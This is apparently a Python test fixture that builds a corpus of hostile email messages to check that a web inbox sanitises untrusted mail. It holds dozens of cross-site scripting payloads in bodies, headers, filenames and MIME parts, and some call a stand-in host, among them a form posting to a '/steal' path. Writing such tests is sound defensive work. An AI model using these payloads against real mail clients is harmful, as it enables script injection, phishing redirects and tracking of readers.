"""Hostile messages for the web inbox: each tries to run script in the UI's origin, navigate the page, or
reach a remote host, through the body, the header fields or the MIME structure.

Every payload announces success the same ways, so one check covers them all: a dialog (``alert``), a
property on the top window (``top.pwned``), a navigation of the top page, or a request to a host other
than the server (``REMOTE``).
"""

from __future__ import annotations

from urllib.parse import quote

REMOTE = "http://remote.invalid"
LOOPBACK_REMOTE = "http://127.0.0.1:9"
RUN = "alert(1);top.pwned=1;parent.pwned=1"

# HTML bodies: scripts, handlers, URLs that run, active elements, CSS that fetches, markup browsers repair.
HTML_BODIES: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script-src-remote": f"<script src='{REMOTE}/x.js'></script>",
    "img-onerror": f"<img src=x onerror='{RUN}'>",
    "body-onload": f"<body onload='{RUN}'>hi</body>",
    "svg-onload": f"<svg onload='{RUN}'></svg>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-animate-href": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=20>x</text></a></svg>",
    "svg-use-remote": f"<svg><use href='{REMOTE}/s.svg#x'/></svg>",
    "mathml-href": f"<math><mtext><a href='javascript:{RUN}'>click</a></mtext></math>",
    "mathml-mglyph-style": f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'>",
    "a-javascript": f"<a id=a href='javascript:{RUN}'>click me</a>",
    "a-data-html": f"<a href='data:text/html,<script>{RUN}</script>'>data</a>",
    "a-target-top": f"<a href='{REMOTE}/phish' target=_top>top</a>",
    "iframe-javascript": f"<iframe src='javascript:{RUN}'></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "iframe-remote": f"<iframe src='{REMOTE}/frame'></iframe>",
    "object-data": f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "embed-remote": f"<embed src='{REMOTE}/x.swf'>",
    "meta-refresh-remote": f"<meta http-equiv=refresh content='0;url={REMOTE}/refresh'>",
    "meta-refresh-javascript": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "base-href": f"<base href='{REMOTE}/'><img src=relative.png><a href=rel>rel</a>",
    "form-autosubmit": f"<form action='{REMOTE}/steal' method=post><input name=a value=b></form>",
    "form-button-formaction": f"<form><button formaction='javascript:{RUN}'>go</button></form>",
    "input-autofocus": f"<input autofocus onfocus='{RUN}'>",
    "details-ontoggle": f"<details open ontoggle='{RUN}'>x</details>",
    "video-poster": f"<video poster='{REMOTE}/poster.png' src='{REMOTE}/v.mp4'></video>",
    "audio-src": f"<audio autoplay src='{REMOTE}/a.mp3'></audio>",
    "picture-srcset": f"<picture><source srcset='{REMOTE}/p.webp'><img src='{REMOTE}/p.png'></picture>",
    "img-remote": f"<img src='{REMOTE}/tracker.gif'>",
    "img-loopback": f"<img src='{LOOPBACK_REMOTE}/tracker.gif'>",
    "css-url-remote": f"<div style=\"background:url('{REMOTE}/bg.png')\">x</div>",
    "css-import": f"<style>@import url('{REMOTE}/x.css');</style>",
    "css-expression": f'<div style="width:expression({RUN})">x</div>',
    "css-font-face": f"<style>@font-face{{font-family:x;src:url('{REMOTE}/f.woff')}}body{{font-family:x}}</style>",
    "link-stylesheet": f"<link rel=stylesheet href='{REMOTE}/s.css'>",
    "link-prefetch": f"<link rel=prefetch href='{REMOTE}/p'><link rel=dns-prefetch href='{REMOTE}'>",
    "background-attribute": f"<table background='{REMOTE}/t.png'><tr><td>x</td></tr></table>",
    "noscript-confusion": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    "split-script-tag": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "unclosed-attribute": f'<img src="x" alt="<script>{RUN}</script>',
    "comment-breakout": f"<!--><img src=x onerror='{RUN}'>-->",
    "cdata-in-html": f"<![CDATA[<img src=x onerror='{RUN}'>]]>",
    "template-content": f"<template><img src=x onerror='{RUN}'></template><xmp><script>{RUN}</script></xmp>",
    "frameset": f"<frameset onload='{RUN}'><frame src='{REMOTE}/f'></frameset>",
    "marquee": f"<marquee onstart='{RUN}'>x</marquee>",
    "window-open": f"<img src=x onerror=\"window.open('{REMOTE}/popup')\">",
    "top-location": f"<img src=x onerror=\"top.location='{REMOTE}/nav'\">",
    "postmessage": "<img src=x onerror=\"parent.postMessage('pwned','*')\">",
    "svg-foreignobject": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "entity-encoded-javascript": "<a href='&#106;avascript:alert(1)'>x</a>",
    "utf7-charset": "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}


def _message(headers: str, body: str, content_type: str = "text/html; charset=utf-8") -> str:
    return (
        f"From: Tester <tester@example.com>\r\nTo: alice@example.com\r\n{headers}"
        f"MIME-Version: 1.0\r\nContent-Type: {content_type}\r\n\r\n{body}\r\n"
    )


def _with_attachment(name_field: str) -> str:
    return (
        "From: tester@example.com\r\nTo: alice@example.com\r\nSubject: attachment name\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=xx\r\n\r\n--xx\r\nContent-Type: text/plain\r\n\r\nsee file\r\n"
        f"--xx\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; {name_field}\r\n\r\n"
        "data\r\n--xx--\r\n"
    )


def corpus() -> dict[str, str]:
    """Name -> raw message."""
    messages = {f"body-{name}": _message(f"Subject: {name}\r\n", body) for name, body in HTML_BODIES.items()}
    tag = f"<img src=x onerror='{RUN}'>"
    encoded_tag = "=?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?="  # <img src=x onerror=alert(1)>
    messages.update(
        {
            "subject-html": _message(f"Subject: {tag}\r\n", "x", "text/plain"),
            "subject-encoded-word": _message(f"Subject: {encoded_tag}\r\n", "x", "text/plain"),
            "from-display-name": (
                f'From: "{tag}" <a@example.com>\r\nTo: alice@example.com\r\nSubject: from\r\n\r\nx\r\n'
            ),
            "from-encoded-word": (
                f"From: {encoded_tag} <a@example.com>\r\nTo: alice@example.com\r\nSubject: from2\r\n\r\nx\r\n"
            ),
            "to-html": f'From: a@example.com\r\nTo: "{tag}" <alice@example.com>\r\nSubject: to\r\n\r\nx\r\n',
            "header-value-html": _message(f"Subject: header\r\nX-Note: {tag}</td></tr></table>\r\n", "x"),
            "message-id-html": _message(f"Subject: message-id\r\nMessage-ID: <{tag}@x>\r\n", "x"),
            "filename-plain": _with_attachment(f'filename="{tag}.pdf"'),
            "filename-rfc2231": _with_attachment(f"filename*=utf-8''{quote(tag)}.pdf"),
            "filename-encoded-word": _with_attachment(f'filename="{encoded_tag}"'),
            "content-id-quote": (
                "From: a@example.com\r\nTo: alice@example.com\r\nSubject: cid\r\n"
                "Content-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html\r\n\r\n"
                "<img src=\"cid:a'onerror='alert(1)\">\r\n--r\r\nContent-Type: image/png\r\n"
                f"Content-ID: <a'onerror='alert(1)>\r\n\r\n{tag}\r\n--r--\r\n"
            ),
            "html-labelled-text": _message("Subject: labelled text\r\n", f"<script>{RUN}</script>{tag}", "text/plain"),
            "html-without-type": (
                f"From: a@example.com\r\nTo: alice@example.com\r\nSubject: no type\r\n\r\n<html>{tag}</html>\r\n"
            ),
            "html-as-octet-stream-inline": _message(
                "Subject: octet\r\nContent-Disposition: inline\r\n", tag, "application/octet-stream"
            ),
            "svg-attachment": (
                "From: a@example.com\r\nTo: alice@example.com\r\nSubject: svg file\r\n"
                "Content-Type: multipart/mixed; boundary=s\r\n\r\n--s\r\nContent-Type: text/plain\r\n\r\nx\r\n"
                "--s\r\nContent-Type: image/svg+xml\r\nContent-Disposition: inline; filename=a.svg\r\n"
                f"Content-ID: <svg@x>\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\r\n--s--\r\n"
            ),
            "link-list-javascript": _message(
                "Subject: links\r\n", f"<a href='javascript:{RUN}'>j</a> https://ok.test/"
            ),
            "bad-charset": _message("Subject: charset\r\n", tag, "text/html; charset=x-unknown"),
            "quoted-printable-script": (
                "From: a@example.com\r\nTo: alice@example.com\r\nSubject: qp\r\nContent-Type: text/html\r\n"
                "Content-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3Ealert(1)=3C/script=3E\r\n"
            ),
        }
    )
    return messages
